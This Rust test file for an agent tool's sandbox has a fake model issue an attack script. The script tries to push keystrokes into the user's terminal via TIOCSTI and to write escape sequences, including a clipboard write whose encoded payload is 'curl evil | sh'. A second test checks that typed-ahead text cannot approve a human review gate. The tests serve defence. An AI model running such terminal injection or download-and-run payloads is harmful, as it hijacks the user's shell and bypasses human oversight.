//! The box has no terminal (docs/design.md §22): run on a real pty, an agent's command tries to
//! push a command line into the person's terminal input (`TIOCSTI`) and to write escape
//! sequences (a clipboard write, a window title) straight to the terminal. Every attempt fails,
//! nothing reaches the terminal, and a gate prompt answers only what is typed after it.

use std::process::Command;
use std::time::Duration;

use serde_json::json;

use super::breaches::landlock_missing;
use crate::suite::agents_e2e::{results_by_tool, Project};
use crate::suite::fake_llm::Reply;
use crate::suite::night::pty::Pty;

const WAIT: Duration = Duration::from_secs(90);

/// The binary on a pty, talking to the project's fake model.
fn on_terminal(p: &Project, args: &[&str]) -> Pty {
    Pty::spawn(terminal_command(p, args))
}

/// The binary with `args`, as a person runs it in a terminal against the project's fake.
fn terminal_command(p: &Project, args: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_agentic-sdlc"));
    command
        .current_dir(p.env.root())
        .args(args)
        .env("NO_COLOR", "1")
        .env("TERM", "xterm")
        .env("OPENAI_BASE_URL", p.fake.base_url())
        .env_remove("OPENAI_API_KEY")
        .env_remove("AGENTIC_SDLC_MODEL")
        .env_remove("RUST_LOG");
    command
}

/// The attempts, in Python so that each is one system call: `name=BREACHED` when it worked.
/// The injected line is put together at run time, so that it appears on the terminal only if
/// the injection worked.
fn attack(tty: &str) -> String {
    format!(
        r#"python3 - <<'PY'
import fcntl, os, termios
line = "echo " + "PW" + "NED" + "\n"
def attempt(name, action):
    try:
        action()
        print(name + "=BREACHED")
    except OSError:
        print(name + "=refused")
def open_controlling():
    os.close(os.open("/dev/tty", os.O_RDWR))
def push_through(path):
    fd = os.open(path, os.O_RDONLY | os.O_NOCTTY)
    try:
        for ch in line:
            fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
    finally:
        os.close(fd)
def write_escapes(path):
    fd = os.open(path, os.O_WRONLY | os.O_NOCTTY)
    try:
        os.write(fd, b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;owned\x07")
    finally:
        os.close(fd)
attempt("open_dev_tty", open_controlling)
attempt("tiocsti_dev_tty", lambda: push_through("/dev/tty"))
attempt("tiocsti_pts", lambda: push_through("{tty}"))
attempt("write_pts", lambda: write_escapes("{tty}"))
attempt("write_dev_tty", lambda: write_escapes("/dev/tty"))
PY"#
    )
}

#[tokio::test]
async fn a_boxed_command_cannot_type_into_or_write_to_the_persons_terminal() {
    if landlock_missing() {
        return;
    }
    let p = Project::new().await;
    let story = p.planned("Harden the terminal");
    // The agent's command names the very terminal the run is on, as a script looking around
    // /dev/pts would find it.
    let pty = on_terminal_with(&p, &story.id, |tty| {
        p.fake
            .push(
                "implement",
                Reply::tool("run_command", json!({ "command": attack(tty) })),
            )
            .push("implement", Reply::text("Implemented."));
    });

    let (code, output) = pty.finish(WAIT);

    assert_eq!(code, 0, "{output}");
    let results = results_by_tool(&p.fake.requests_for("implement")[1]);
    let report = &results[0].1;
    assert_eq!(report.matches("=refused").count(), 5, "{report}");
    assert!(!report.contains("BREACHED"), "{report}");
    assert!(
        !output.contains("PWNED"),
        "typed into the terminal: {output:?}"
    );
    assert!(
        !output.contains("\u{1b}]52"),
        "a raw clipboard write: {output:?}"
    );
    assert!(
        !output.contains("\u{1b}]0;owned"),
        "a raw title: {output:?}"
    );
}

/// Opens a pty, lets `before_start` use its path, then starts the story's implement on it.
fn on_terminal_with(p: &Project, story_id: &str, before_start: impl FnOnce(&str)) -> Pty {
    let args = ["run", "--story", story_id, "--step", "implement"];
    Pty::spawn_after(terminal_command(p, &args), before_start)
}

#[tokio::test]
async fn type_ahead_never_answers_a_gate() {
    let p = Project::new().await;
    p.env
        .configure_json(&json!({"phases": {"research": {"review": {"reviewer": "human"}}}}));
    let story = p.story("Judge me", "A summary.", "- [ ] It works", "ready", &[]);
    // The model takes a moment, as a real one does; meanwhile the person types, for something
    // else, a line that would approve.
    p.fake.push(
        "research",
        Reply::delayed(
            Duration::from_millis(1500),
            Reply::text("Findings to judge."),
        ),
    );
    let mut pty = on_terminal(&p, &["run", "--story", &story.id]);
    pty.send(b"APPROVE\n");
    pty.expect("decision> ", WAIT);
    // What is typed after the prompt counts: here, nothing.
    pty.send(b"\n");
    let (code, output) = pty.finish(WAIT);
    assert_eq!(code, 3, "the story waits for a person:\n{output}");
    let review = &p.details(&story)["phase_reviews"]["research"];
    assert_eq!(review["decision"], "PENDING", "{review}");
    assert_eq!(p.details(&story)["research_complete"], false);
}
